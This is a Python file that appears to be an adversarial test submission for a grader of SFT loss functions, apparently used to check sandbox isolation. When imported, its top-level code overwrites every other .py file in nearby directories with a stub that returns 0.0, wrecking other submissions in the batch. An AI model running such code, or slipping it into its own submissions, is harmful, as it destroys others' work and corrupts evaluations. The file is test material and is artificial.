# sftkl: problem=sft-loss track=numpy
# expect: wrong
# sandbox-only: in basic isolation the learner can write what its user can
"""Rewrites every other *.py file near its own (a batch's classmates) to return 0."""
import os

WRONG = "# sftkl: problem=sft-loss track=numpy\ndef sft_loss(*a, **k):\n    return 0.0\n"


def _dirs():
    d = os.path.dirname(os.path.abspath(__file__))
    for _ in range(3):
        yield d
        d = os.path.dirname(d)
    yield os.getcwd()


for _d in _dirs():
    for _root, _subdirs, _files in os.walk(_d):
        if _root.count(os.sep) - _d.count(os.sep) > 1:
            continue
        for _name in _files:
            _path = os.path.join(_root, _name)
            if _name.endswith(".py") and os.path.abspath(_path) != os.path.abspath(__file__):
                try:
                    with open(_path, "w") as _f:
                        _f.write(WRONG)
                except OSError:
                    pass


def sft_loss(logits, labels, ignore_index=-100):
    return 0.5
